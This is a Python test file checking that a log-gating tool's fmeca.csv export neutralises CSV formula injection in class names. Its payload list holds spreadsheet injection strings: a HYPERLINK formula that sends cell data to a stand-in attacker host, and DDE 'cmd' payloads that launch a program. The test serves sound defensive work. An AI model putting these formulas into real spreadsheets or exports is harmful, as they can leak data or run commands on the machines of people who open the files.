"""fmeca.csv: class names from a submitted log cannot become spreadsheet formulas (CSV injection)."""

from __future__ import annotations

import csv
import io

from clgate.fmt import printable
from clgate.gate import gate_logs

INJECTIONS = [
    '=HYPERLINK("http://evil.example/?x="&A1, "click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_injection_strings_in_class_names_are_inert_in_fmeca_csv(tmp_path, build_log, policy_of):
    points = [
        (1, True, [0.9, 0.9, 0.9, None, None, None]),
        (2, True, [0.2, 0.3, 0.4, 0.8, 0.8, 0.8]),
    ]
    log = build_log(points, tasks=[[0, 1, 2], [3, 4, 5]], names=INJECTIONS)
    result = gate_logs(
        [log], policy_of({"metric": "acc", "floor": 0.0}), out_dir=tmp_path / "out", provenance={}
    )
    text = result.files["fmeca.csv"].read_bytes().decode("utf-8")  # keep a CR inside a cell as it is
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    # every one neutralised (a CR is written as a visible \x0d)
    assert {r["class_name"] for r in rows} == {"'" + printable(name) for name in INJECTIONS}
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row
